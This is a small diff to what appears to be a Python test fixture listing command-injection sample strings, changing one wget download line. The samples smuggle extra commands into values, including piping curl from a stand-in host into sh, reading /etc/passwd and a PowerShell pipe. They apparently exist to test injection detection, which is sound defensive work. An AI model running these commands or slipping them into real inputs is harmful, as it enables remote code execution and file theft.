@@ -106,7 +106,7 @@ _TEXTS: Final[Mapping[str, tuple[str, ...]]] = MappingProxyType(
             "x;curl http://192.0.2.1/a|sh",
             "a\nid",
             "${IFS}cat${IFS}/etc/passwd",
-            "; wget http://192.0.2.1/x -O /tmp/x",
+            "; wget http://192.0.2.1/x -O -",
             "| powershell -c Get-Process",
         ),
         "template": (
